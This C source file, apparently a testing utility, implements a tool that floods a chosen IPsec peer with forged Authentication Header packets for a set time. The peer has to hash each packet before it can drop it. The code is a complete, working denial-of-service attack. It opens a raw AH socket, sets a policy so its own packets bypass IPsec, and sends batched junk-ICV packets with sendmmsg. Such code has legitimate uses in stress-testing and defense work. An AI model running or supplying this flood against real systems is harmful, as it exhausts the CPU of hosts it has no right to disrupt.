// SPDX-License-Identifier: GPL-2.0
/*
 * Flood a peer with forged AH packets: the peer has to hash each of them before it can
 * drop it.
 *
 * Usage: flood ADDRESS SPI SECONDS
 *
 * Prints the number of packets sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <stdnoreturn.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include <linux/xfrm.h>

#define PACKETS		64	/* per system call */
#define PAYLOAD		1376	/* with headers at most an MTU */
#define ICV		12	/* the kernel's default for hmac(sha256): 96 bits */

/* The Authentication Header of RFC 4302, and the payload that it claims to protect */
struct packet {
	uint8_t next;
	uint8_t length;
	uint16_t reserved;
	uint32_t spi;
	uint32_t sequence;
	uint8_t icv[ICV];
	uint8_t payload[PAYLOAD];
};

static noreturn void give_up(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* The socket's packets bypass IPsec. */
static int open_socket(const char *address)
{
	const struct xfrm_userpolicy_info past = {
		.action = XFRM_POLICY_ALLOW,
		.dir = XFRM_POLICY_OUT,
		.sel.family = AF_INET,
	};
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_AH);

	if (fd < 0)
		give_up("socket");
	if (setsockopt(fd, IPPROTO_IP, IP_XFRM_POLICY, &past, sizeof(past)))
		give_up("IP_XFRM_POLICY");
	if (!inet_aton(address, &to.sin_addr) ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)))
		give_up(address);
	return fd;
}

static void prepare(struct packet *packet, uint32_t spi)
{
	memset(packet, 0xa5, sizeof(*packet));
	packet->next = IPPROTO_UDP;
	/* In 32-bit words, minus 2 (RFC 4302, 2.2) */
	packet->length = (sizeof(*packet) - PAYLOAD) / 4 - 2;
	packet->reserved = 0;
	packet->spi = htonl(spi);
}

int main(int argc, char **argv)
{
	static struct packet packets[PACKETS];
	struct mmsghdr messages[PACKETS] = { 0 };
	struct iovec data[PACKETS];
	uint32_t sequence = 0;
	time_t end;
	int fd, i;

	if (argc != 4) {
		fprintf(stderr, "Usage: flood ADDRESS SPI SECONDS\n");
		return 2;
	}
	fd = open_socket(argv[1]);
	for (i = 0; i < PACKETS; i++) {
		prepare(&packets[i], strtoul(argv[2], NULL, 0));
		data[i].iov_base = &packets[i];
		data[i].iov_len = sizeof(packets[i]);
		messages[i].msg_hdr.msg_iov = &data[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}

	end = time(NULL) + strtol(argv[3], NULL, 10);
	while (time(NULL) < end) {
		for (i = 0; i < PACKETS; i++)
			packets[i].sequence = htonl(++sequence);
		/* Packets that find a full queue are lost. */
		if (sendmmsg(fd, messages, PACKETS, 0) < 0 && errno != ENOBUFS)
			give_up("sendmmsg");
	}
	printf("%u\n", sequence);
	return 0;
}
